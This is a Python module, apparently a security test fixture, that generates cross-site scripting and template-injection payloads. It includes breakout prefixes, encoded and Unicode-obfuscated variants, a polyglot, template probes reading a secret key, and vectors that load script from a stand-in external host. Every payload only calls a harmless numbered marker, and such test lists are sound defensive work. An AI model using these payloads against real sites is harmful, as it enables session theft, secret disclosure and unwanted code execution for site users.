"""Text that tries to be script: ways to run something, each after ways to break out of where a text may stand.

Each calls `ran(…)` with a number of its own, which a page that watches for it can tell. None holds white space but the
last few, so that a page which shows the first words of a text shows all of it.
"""

from collections.abc import Iterator

#: What runs once it is taken for a part of the page, or fetches what would.
VECTORS = (
    "<script>{run}</script>",
    "<ScRiPt>{run}</sCrIpT>",
    "<scr<script>ipt>{run}</script>",
    "<script/src=data:text/javascript,{run}></script>",
    "<script/src=//elsewhere.example/{n}.js></script>",
    "<img/src='x'/onerror={run}>",
    "<img/src='x'onerror='{run}'>",
    "<svg/onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate/attributeName='x'/dur='1s'/onbegin={run}>",
    "<math><mtext></p><img/src='x'/onerror={run}></mtext></math>",
    "<iframe/src=javascript:parent.{run}></iframe>",
    "<iframe/srcdoc='<script>parent.{run}</script>'></iframe>",
    "<object/data=javascript:parent.{run}></object>",
    "<embed/src=javascript:parent.{run}>",
    "<details/open/ontoggle={run}>",
    "<input/autofocus/onfocus={run}>",
    "<video><source/onerror={run}></video>",
    "<audio/src='x'/onerror={run}></audio>",
    "<style/onload={run}></style>",
    "<link/rel='stylesheet'/href=//elsewhere.example/{n}.css>",
    "<meta/http-equiv='refresh'/content='0;url=javascript:{run}'>",
    "<base/href=//elsewhere.example/{n}/>",
    "<a/href=javascript:{run}>a</a>",
    "<form/action=javascript:{run}><button>b</button></form>",
    "<marquee/onstart={run}>",
    "<noscript><p/title=\"</noscript><img/src='x'/onerror={run}>\">",
)
#: What ends the place in which the text stands: an attribute, a comment, a text that holds no parts.
PLACES = ("", '">', "'>", "-->", "</textarea>", "</title>", "</script>", "</style>", "</p></blockquote>", "</select>")
#: What needs no part of its own: attributes, addresses, templates, and forms in which a sign is written otherwise.
OTHERS = (
    '"onfocus={run}/autofocus="',
    "'onfocus={run}/autofocus='",
    '"onmouseover="{run}',
    "`onmouseover=`{run}",
    '"style="animation-name:x"onanimationstart="{run}',
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    "java&Tab;script:{run}",
    "java&#10;script:{run}",
    "javascript&colon;{run}",
    "data:text/html,<script>{run}</script>",
    "data:text/html;base64,PHNjcmlwdD5yYW4oMCk8L3NjcmlwdD4=",
    "vbscript:{run}",
    "{{{{{run}}}}}",
    "{{{{7*7}}}}",
    "{{{{settings.SECRET_KEY}}}}",
    "{{{{x|safe}}}}",
    "{{%debug%}}",
    "{{%include'503.html'%}}",
    "{{#{run}#}}",
    "${{{run}}}",
    "#{{{run}}}",
    "<%={run}%>",
    "{{Name}}",
    "{{Client}}",
    "{{0.__class__}}",
    "{{name!r:>99}}",
    "%(name)s",
    "%s%d%n%%",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&amp;lt;img/src='x'/onerror={run}&amp;gt;",
    "&#60;img/src='x'/onerror={run}&#62;",
    "&#x3c;svg/onload={run}&#x3e;",
    "&lt&#59img/src='x'/onerror={run}&gt",
    "%3Cscript%3E{run}%3C/script%3E",
    "%253Cscript%253E{run}%253C/script%253E",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "\\x3cscript\\x3e{run}\\x3c/script\\x3e",
    "\\';{run}//",
    '\\";{run}//',
    "+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "＜script＞{run}＜/script＞",
    "‹img/src='x'/onerror={run}›",
    "\u202e<img/src='x'/onerror={run}>\u202c",
    "\u2066<svg/onload={run}>\u2069",
    "<\u200bscript>{run}</script>",
    "\ufeff<script>{run}</script>",
    "<script\ufeff>{run}</script>",
    "<!--><img/src='x'/onerror={run}>",
    "<![CDATA[><img/src='x'/onerror={run}>]]>",
    "<?xml-stylesheet/href='javascript:{run}'?>",
    "<!DOCTYPE/x[<!ENTITY/y'{run}'>]>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/**/oNcliCk={run})//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd={run}//>",
    "\"'><!--></title></textarea></style></script><svg/onload={run}>",
    "'\"`><svg/onload={run}><!--",
    "<\u0073cript>{run}<\u002fscript>",
)
#: With white space inside, which some readers of tags skip.
SPACED = ("<img src=x\tonerror={run}>", "<svg\nonload={run}>", "<a href='java\tscript:{run}'>a</a>", "{{% debug %}}")
#: A sign that no database keeps: refused, and shown to whoever sent it.
NULLS = ("<scr\0ipt>{run}</script>", "<img/src='x'/onerror\0={run}>", "\0<svg/onload={run}>", "java\0script:{run}")
#: What stands between two of them in one text; a sign that none of them holds.
BETWEEN = "¶"


def every() -> list[str]:
    """Each vector from each place, and the others."""
    return list(_numbered([place + one for place in PLACES for one in VECTORS] + [*OTHERS, *SPACED]))


def few() -> list[str]:
    """Each vector once and each place, and the others."""
    return list(_numbered([PLACES[n % len(PLACES)] + one for n, one in enumerate(VECTORS)] + [*OTHERS, *SPACED]))


def nulls() -> list[str]:
    """Those with a null in them."""
    return list(_numbered(NULLS))


def texts(listed: list[str], most: int = 3900) -> list[str]:
    """All of them, in as few texts as a line of a check-in can hold."""
    found = [""]
    for one in listed:
        if len(found[-1]) + len(one) + 1 > most:
            found.append("")
        found[-1] += (BETWEEN if found[-1] else "") + one
    return found


def _numbered(listed: "list[str] | tuple[str, ...]") -> Iterator[str]:
    for n, one in enumerate(listed):
        yield one.format(run=f"ran({n})", n=n)
